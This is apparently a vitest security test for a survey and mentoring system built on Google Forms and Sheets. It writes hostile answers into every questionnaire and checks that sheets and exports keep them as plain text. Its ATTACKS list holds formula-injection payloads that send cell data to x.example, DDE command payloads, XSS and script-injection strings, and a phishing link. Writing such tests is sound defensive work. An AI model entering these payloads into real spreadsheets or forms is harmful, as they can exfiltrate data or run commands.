import { mkdtemp, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import type { FormState } from '../../local/emulator/state';
import { DEFAULT_SWITCHES, OTHER_SWITCHES } from '../../local/emulator/switches';
import { exportAll } from '../../local/export';
import { codeOf } from '../../src/domain/people/codes';
import { cleanName, writtenName } from '../../src/domain/people/names';
import { type SurveyKey, surveyOf } from '../../src/domain/surveys';
import { isIntake, SURVEY_KEYS } from '../../src/domain/surveys/asked';
import type { Question, Survey } from '../../src/domain/surveys/types';
import { NAMED } from '../domain/surveys/contexts';
import { notText } from '../export/not-text';
import { School } from '../school';

/** What a stranger may write: formulas, markup and identities, as `workflow-peers` 6.1, 6.2 and 6.5 list them. */
const ATTACKS: readonly string[] = [
  '=IMPORTDATA("https://x.example/?d="&A2)',
  '=IMPORTXML(CONCAT("https://x.example/?v=",CONCATENATE(A2:E20)),"//a")',
  '=IMAGE("https://x.example/"&B2)',
  '=IMPORTRANGE("id","A1:Z")',
  '=HYPERLINK("https://phish.example","Подпишите приказ")',
  '+77011234567',
  '+1+1',
  '-2+3',
  '@SUM(1)',
  '\t=1+1',
  '\r=1+1',
  ' =1+1',
  '\u200B=1+1',
  '＝1+1',
  "'=1+1",
  "''=1+1",
  "=cmd|'/c calc'!A0",
  '=DDE("cmd";"/c calc";"1")',
  ...['007', '1/2', 'TRUE', '10%', '1e5', '3-4', '#REF!', '#N/A', 'Loading...'],
  '<img src=x onerror=alert(1)>',
  '<svg/onload=alert(1)>',
  '"><script>alert(1)</script>',
  '</script><script>google.script.run.sendAll()</script>',
  '<a href="https://phish.example">ваш приказ</a>',
  'javascript:alert(1)',
  'data:text/html,<b>x</b>',
  '&lt;b&gt;',
  '<!-- ',
  ']]>',
  '<'.repeat(10_000),
  'И\u0306ванова  Инна',
  'Белова Зiнаида',
  'Иванова\u202EИнна',
  'НК-001Д',
  '__proto__',
];

/** Real names, no two near each other, for answers whose author must be known. */
const STEMS = ['Бар', 'Вол', 'Гор', 'Дуб', 'Жур', 'Рыж', 'Пет'];
const NAMES = STEMS.flatMap((stem) =>
  ['анова', 'ецкая', 'ичева', 'юкина', 'ягина', 'опова', 'ушина'].map((end, at) => `${stem}${end} ${'АБВГДЕЖ'[at]}нна`),
);

const folders: string[] = [];
afterAll(() => Promise.all(folders.map((folder) => rm(folder, { recursive: true }))));

const isOwnWords = ({ kind, pattern }: Question) => (kind === 'text' || kind === 'paragraph') && !pattern;

/** A response in which every question of one's own words says the attack; whoever answers is named as asked. */
function hostile(
  survey: Survey,
  form: FormState,
  attack: string,
  name: string | null,
): Record<string, string | string[]> {
  return Object.fromEntries(
    survey.questions.map((question, at) => {
      const { key, choices = [], rows = [], scale, kind, pattern } = question;
      const item = form.items[at];
      const first = (kind === 'grid' ? choices[0] : item?.choices[0]) ?? '';
      const id = String(item?.id);
      if (isOwnWords(question)) return [id, key === 'name' && name !== null ? name : attack];
      if (pattern) return [id, codeOf('mentee', 1)];
      if (kind === 'grid') return [id, rows.map(() => first)];
      if (kind === 'scale') return [id, String(scale?.from ?? 1)];
      return [id, kind === 'checkboxes' ? [first] : first];
    }),
  );
}

function attackedSchool(switches: typeof DEFAULT_SWITCHES): { school: School; keys: SurveyKey[] } {
  const school = School.at('forms', { switches });
  // The list grows shorter with each that is made.
  for (let made = 0; made < SURVEY_KEYS.length; made += 1) school.command('openOtherSurvey', [{ text: '1' }, 'YES']);
  const rows = school.sheet('Анкеты');
  const keys = SURVEY_KEYS.filter((key) => rows.some(({ Анкета }) => Анкета === surveyOf(key, NAMED).title));
  school.workspace.firesFormTriggers = false;
  for (const key of keys) {
    const survey = surveyOf(key, NAMED);
    const form = Object.values(school.state.forms).find(({ title }) => title === survey.title);
    if (!form) throw new Error(`There is no form «${survey.title}».`);
    ATTACKS.forEach((attack, at) => {
      for (const name of isIntake(key) ? [NAMES[at] ?? '', null] : [null]) {
        school.state.now += 1000;
        school.workspace.respond(form.id, { answers: hostile(survey, form, attack, name) });
      }
    });
  }
  school.workspace.firesFormTriggers = true;
  for (let hour = 0; hour < 2; hour += 1) school.trigger('onTick');
  school.command('collectAnswers');
  return { school, keys };
}

describe.each([
  ['as the emulator takes them', DEFAULT_SWITCHES],
  ['the other way round', OTHER_SWITCHES],
])('Whatever is written into the questions of every questionnaire, with what nobody has checked %s', (_, switches) => {
  const { school, keys } = attackedSchool(switches);

  it('all questionnaires with such questions are asked', () => {
    const words = (key: SurveyKey) => surveyOf(key, NAMED).questions.some(isOwnWords);
    expect(keys.filter(words)).toEqual(SURVEY_KEYS.filter((key) => words(key) && keys.includes(key)));
    expect(keys.filter(words).length).toBeGreaterThanOrEqual(8);
    expect(school.lastRun.ended).toBe('done');
    expect(school.said).not.toContain('Не получилось');
  });

  it('no cell of any sheet is a formula', () => {
    const { sheets } = school.state.spreadsheets[school.spreadsheetId] ?? { sheets: [] };
    const formulas = sheets.flatMap(({ name, cells }) =>
      cells.flatMap((line) => line.flatMap((cell) => (cell?.f === undefined ? [] : [`${name}: ${cell.f}`]))),
    );
    expect(formulas).toEqual([]);
  });

  it('the bases hold the words as they were written, and each name is in a base or among the doubts', () => {
    const mentees = school.sheet('Наставляемые');
    const mentors = school.sheet('Наставники');
    const doubts = school.sheet('Сомнения').map((row) => row['Что пришло']);
    ATTACKS.forEach((attack, at) => {
      const own = (row: Record<string, unknown>) => row['Фамилия Имя Отчество'] === NAMES[at];
      expect(mentors.find(own)?.Должность).toBe(attack.trim());
      expect(mentees.find(own)).toMatchObject({ Должность: attack.trim(), 'Главный запрос': attack.trim() });
      const name = cleanName(attack);
      const named = [...mentors, ...mentees].map((row) => row['Фамилия Имя Отчество']);
      expect([...named, ...doubts]).toContain(
        [...named].includes(writtenName(name)) ? writtenName(name) : name || '(без ФИО)',
      );
    });
  });

  it('exports keep them as text: cells are strings, and pages let no markup in', async () => {
    const folder = await mkdtemp(path.join(tmpdir(), 'attacks-surveys-'));
    folders.push(folder);
    const { files } = await exportAll(school.state, folder, { title: 'Школа', subtitle: '', steps: [] });
    for (const file of files) {
      const bytes = await readFile(path.join(folder, file));
      if (file.endsWith('.html'))
        expect(bytes.toString()).not.toMatch(/<img src=x|<svg\/onload|<script>(alert|google)|<a href="https:\/\/phish/);
      if (file.endsWith('.xlsx')) expect(await notText(path.join(folder, file))).toEqual([]);
    }
    expect(files.some((file) => file.endsWith('.xlsx'))).toBe(true);
  });

  it('nothing was polluted, and the commands still answer', () => {
    for (const handler of ['doNextStep', 'proposePairs', 'checkTable']) {
      const { ended } = school.command(handler, ['NO', 'NO']);
      expect([handler, ended]).toEqual([handler, 'done']);
      expect(school.said).not.toContain('Не получилось');
    }
    expect(Object.keys(Object.prototype)).toEqual([]);
  });
});
